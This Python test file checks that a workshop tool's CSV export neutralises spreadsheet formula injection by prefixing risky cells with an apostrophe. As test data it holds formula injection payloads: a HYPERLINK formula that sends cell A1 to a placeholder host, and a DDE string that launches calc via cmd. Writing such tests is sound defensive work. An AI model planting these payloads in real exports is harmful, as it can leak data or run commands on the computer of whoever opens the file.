"""CSV files are opened in Excel and LibreOffice: no cell may run as a formula.

A participant who writes ``=HYPERLINK("http://…","Klikk")`` as a card, a name,
a check-in, a plan or an island title must not get a live formula (or a link,
or a command via DDE) into the spreadsheet of whoever opens the export.
"""

from __future__ import annotations

import csv
import io

from kompsesjon.export.report import build_report
from kompsesjon.export.tables import formula_safe, render_csv
from kompsesjon.method import commands as c
from kompsesjon.method import participant

from .sessions import Script

# Each text starts with a character a spreadsheet reads as the start of a formula.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk her")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1 nytt punkt",
]


def hostile_session() -> Script:
    s = Script()
    kari = s.join(FORMULAS[0][:60], "Bodø")
    ola = s.join("@Ola", "=Fauske")
    p = participant
    s.do(p(kari), c.CheckIn, text=FORMULAS[1])
    s.advance()  # critique
    for text in FORMULAS:
        s.do(p(ola), c.AddItem, board="critique", text=text)
    s.host(c.RevealItems, board="critique")
    s.advance()  # cluster
    s.host(c.Merge, board="critique", cards=["K1", "K2"], title="=Tema")
    for _ in range(8):  # vote, bottom list, vision, cluster, vote, top list, islands
        if s.state.current.kind.value == "islands":
            break
        s.advance()
    s.host(c.CreateIsland, title="+Øy", links=[c.LinkRef(board="critique", card="T1")])
    s.do(p(kari), c.ChooseIsland, island="I1")
    s.do(p(ola), c.ChooseIsland, island="I1")
    s.advance()  # action plans
    s.do(p(kari), c.EditPlan, island="I1", field="what", text="-Månedlige fagdager", base_version=0)
    s.do(p(ola), c.EditPlan, island="I1", field="who", text="@Kari", base_version=0)
    s.advance()  # closing
    s.host(c.AddNextStep, text="=Nytt møte")
    s.do(p(ola), c.CheckOut, text="-takk")
    return s


def test_no_cell_of_any_table_starts_a_formula():
    s = hostile_session()
    report = build_report(s.state, code="K7PQ2M", exported_at=0.0)
    files = render_csv(report)
    seen = []
    for name, data in files.items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                if cell.startswith("'"):
                    seen.append(cell[1:])
    # The text is all there, behind the apostrophe a spreadsheet hides.
    for text in [*FORMULAS, FORMULAS[0][:60], "@Ola", "=Tema", "+Øy", "-Månedlige fagdager", "@Kari", "=Nytt møte"]:
        assert text in seen, text
    assert "-takk" in seen and FORMULAS[1] in seen


def test_numbers_and_plain_text_are_left_alone():
    assert formula_safe("Lite tid") == "Lite tid"
    assert formula_safe("'sitat'") == "'sitat'"
    assert formula_safe("") == ""
    assert formula_safe(3) == 3 and formula_safe(True) is True
    assert formula_safe("=1") == "'=1"
    assert formula_safe("\tx") == "'\tx" and formula_safe("\rx") == "'\rx"
    # A spreadsheet skips leading blanks before it looks for the "=".
    assert formula_safe("  =1") == "'  =1"
